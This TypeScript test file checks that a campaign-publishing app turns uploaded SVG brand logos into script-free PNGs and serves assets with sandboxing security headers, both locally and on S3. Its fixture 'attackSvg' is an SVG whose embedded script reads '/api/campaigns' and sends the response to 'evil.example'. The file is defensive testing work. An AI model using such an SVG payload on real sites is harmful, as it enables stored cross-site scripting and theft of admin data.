import crypto from 'node:crypto';
import fs from 'node:fs/promises';
import path from 'node:path';
import { HeadObjectCommand, S3Client } from '@aws-sdk/client-s3';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../server/api/build-app.ts';
import { openLocalPublisher } from '../server/publish/open-local-publisher.ts';
import { openS3Publisher } from '../server/publish/open-s3-publisher.ts';
import { publishBrandAssets } from '../server/publish/publish-brand-assets.ts';
import { publishRecipient } from '../server/publish/publish-recipient.ts';
import type { Publisher } from '../server/publish/publisher.ts';
import { putHashed } from '../server/publish/put-hashed.ts';
import { readBrandFile } from '../server/read-brand-file.ts';
import type { Db } from '../server/store/db.ts';
import { makeToken } from '../server/store/make-token.ts';
import { openEmbeddedStore } from '../server/store/open-embedded-store.ts';
import type { BrandKit } from '../templates/brand/brand-kit.ts';
import { makePlaceholderMedia } from './helpers/placeholder-media.ts';
import { startS3Server, type S3Server } from '../scripts/lib/s3-server.ts';
import { makeTempDir } from '../scripts/lib/temp-dir.ts';

const apiKey = 'test-key-0123456789abcdef';
const auth = { authorization: `Bearer ${apiKey}` };
const colors = { primary: '#0b5d1e', onPrimary: '#ffffff', accent: '#8a3c00', background: '#f7f3e8', text: '#1b1b1b' };
/** A logo that reads the admin API with whatever credentials the browser holds, and sends it away. */
const attackSvg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 40"><a:script xmlns:a="http://www.w3.org/2000/svg">fetch('/api/campaigns').then((r) => r.text()).then((t) => fetch('https://evil.example/?' + encodeURIComponent(t)))</a:script><rect width="100" height="40" fill="#0b5d1e"/><circle cx="20" cy="20" r="12" fill="#ffffff"/></svg>`;
const sandbox = "default-src 'none'; img-src 'self'; media-src 'self'; sandbox allow-same-origin";

let temp: Awaited<ReturnType<typeof makeTempDir>>;
let db: Db;
let app: FastifyInstance;
let siteDir: string;
let s3: S3Server;
/** The brand kit as the API stored it. */
let stored: BrandKit;
const token = makeToken();

/** What the publishing of one branded recipient puts on a CDN: the brand files, a font, a script, media and the page. */
async function publishBrandedRecipient(publisher: Publisher, brand: BrandKit) {
  const assets = await publishBrandAssets({ publisher, brand });
  const font = await putHashed({
    publisher,
    name: 'inter-latin-400-normal.woff2',
    body: crypto.randomBytes(64),
    contentType: 'font/woff2',
  });
  const script = await putHashed({
    publisher,
    name: 'track.js',
    body: 'void 0;',
    contentType: 'text/javascript; charset=utf-8',
  });
  const media = await makePlaceholderMedia({ dir: path.join(temp.dir, 'media'), seconds: 1 });
  await publishRecipient({ publisher, token, media, html: `<!doctype html><img src="../../${assets.logo}" alt="">` });
  return { ...assets, font, script };
}

beforeAll(async () => {
  temp = await makeTempDir('security-logo');
  db = await openEmbeddedStore({ dataDir: path.join(temp.dir, 'db') });
  siteDir = path.join(temp.dir, 'site');
  app = await buildApp({ db, apiKey, siteDir, defaultBaseUrl: 'https://v.example.com' });
  s3 = await startS3Server({ bucket: `kindly-${crypto.randomBytes(4).toString('hex')}` });
  const logo = `data:image/svg+xml;base64,${Buffer.from(attackSvg).toString('base64')}`;
  const created = await app.inject({
    method: 'POST',
    url: '/api/campaigns',
    headers: auth,
    payload: {
      id: 'lumen',
      template: 'instalment-offer',
      payUrl: 'https://pay.example.com/c',
      brand: { senderName: 'Lumen Gas', colors, logo },
    },
  });
  expect(created.statusCode, created.body).toBe(201);
  stored = (await app.inject({ method: 'GET', url: '/api/campaigns/lumen', headers: auth })).json().brand;
}, 180_000);

afterAll(async () => {
  await app?.close();
  await db?.close();
  await s3?.stop();
  await temp?.remove();
});

/** A published logo that is a PNG picture of the uploaded drawing, and nothing else. */
async function expectPictureOnly(bytes: Buffer) {
  expect(bytes.subarray(0, 8).equals(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]))).toBe(true);
  expect(bytes.toString('latin1')).not.toMatch(/script|fetch|evil\.example|<svg/i);
  const { data, info } = await sharp(bytes).raw().toBuffer({ resolveWithObject: true });
  // Drawn 512 px high at the SVG's own proportions: the green field and the white disc are there.
  expect([info.width, info.height]).toEqual([1280, 512]);
  const pixel = (x: number, y: number) => [
    ...data.subarray((y * info.width + x) * info.channels, (y * info.width + x) * info.channels + 3),
  ];
  expect(pixel(1000, 256)).toEqual([0x0b, 0x5d, 0x1e]);
  expect(pixel(256, 256)).toEqual([255, 255, 255]);
}

describe('a brand logo carrying script', () => {
  it('from the API is published as a PNG picture with no script in it', async () => {
    expect(stored.logo).toMatch(/^data:image\/svg\+xml;base64,/);
    const assets = await publishBrandedRecipient(openLocalPublisher({ root: siteDir }), stored);
    expect(assets.logo).toMatch(/^assets\/brand-logo\.[0-9a-f]{12}\.png$/);
    expect((await fs.readdir(path.join(siteDir, 'assets'))).filter((name) => name.endsWith('.svg'))).toEqual([]);
    await expectPictureOnly(await fs.readFile(path.join(siteDir, assets.logo)));
    // The page shows it: served as an image.
    const served = await app.inject({ method: 'GET', url: `/${assets.logo}` });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
  });

  it('from a CLI --brand file is published the same way', async () => {
    await fs.writeFile(path.join(temp.dir, 'evil.svg'), attackSvg);
    await fs.writeFile(
      path.join(temp.dir, 'brand.json'),
      JSON.stringify({ senderName: 'Lumen Gas', colors, logo: 'evil.svg' }),
    );
    const brand = await readBrandFile(path.join(temp.dir, 'brand.json'));
    const root = path.join(temp.dir, 'cli-site');
    const assets = await publishBrandAssets({ publisher: openLocalPublisher({ root }), brand });
    expect(assets.logo).toMatch(/^assets\/brand-logo\.[0-9a-f]{12}\.png$/);
    await expectPictureOnly(await fs.readFile(path.join(root, assets.logo)));
  });

  it('every file that is not a page is served sandboxed and nosniff; pages keep their own policy', async () => {
    // An SVG with script published before logos were drawn as PNGs, still in the folder.
    await fs.writeFile(path.join(siteDir, 'assets', 'brand-logo.0123456789ab.svg'), attackSvg);
    const files = (await fs.readdir(siteDir, { recursive: true, withFileTypes: true }))
      .filter((entry) => entry.isFile())
      .map((entry) => path.relative(siteDir, path.join(entry.parentPath, entry.name)));
    expect(files.map((file) => path.extname(file)).sort()).toEqual([
      '.css',
      '.html',
      '.jpg',
      '.js',
      '.mp4',
      '.png',
      '.svg',
      '.vtt',
      '.webp',
      '.woff2',
    ]);
    for (const file of files) {
      const response = await app.inject({ method: 'GET', url: `/${file}` });
      expect(response.statusCode, file).toBe(200);
      expect(response.headers['x-content-type-options'], file).toBe('nosniff');
      if (file.endsWith('.html')) {
        expect(response.headers['content-security-policy']).toMatch(/^default-src 'none'; script-src 'self'/);
        expect(response.headers['content-security-policy']).not.toContain('sandbox');
      } else {
        expect(response.headers['content-security-policy'], file).toBe(sandbox);
      }
    }
  });

  it('on S3, every file that is not a page carries the same headers as object metadata', async () => {
    const settings = {
      endpoint: s3.endpoint,
      bucket: s3.bucket,
      region: s3.region,
      accessKeyId: s3.accessKeyId,
      secretAccessKey: s3.secretAccessKey,
      forcePathStyle: true,
    };
    const assets = await publishBrandedRecipient(openS3Publisher({ ...settings, prefix: 'cdn' }), stored);
    const client = new S3Client({
      ...settings,
      credentials: { accessKeyId: s3.accessKeyId, secretAccessKey: s3.secretAccessKey },
    });
    try {
      const head = (key: string) => client.send(new HeadObjectCommand({ Bucket: s3.bucket, Key: `cdn/${key}` }));
      const media = ['video.mp4', 'poster.jpg', 'thumb.webp', 'captions.vtt'].map((name) => `r/${token}/${name}`);
      for (const key of [assets.logo, assets.brand, assets.font, assets.script, ...media]) {
        expect((await head(key)).Metadata, key).toEqual({
          'content-security-policy': sandbox,
          'x-content-type-options': 'nosniff',
        });
      }
      expect((await head(`r/${token}/index.html`)).Metadata).toEqual({});
      // What a CDN reading the origin receives: the metadata as x-amz-meta-* headers.
      const response = await fetch(`${s3.endpoint}/${s3.bucket}/cdn/${assets.logo}`);
      expect(response.headers.get('x-amz-meta-content-security-policy')).toBe(sandbox);
      expect(response.headers.get('x-amz-meta-x-content-type-options')).toBe('nosniff');
      await expectPictureOnly(Buffer.from(await response.arrayBuffer()));
    } finally {
      client.destroy();
    }
  });
});
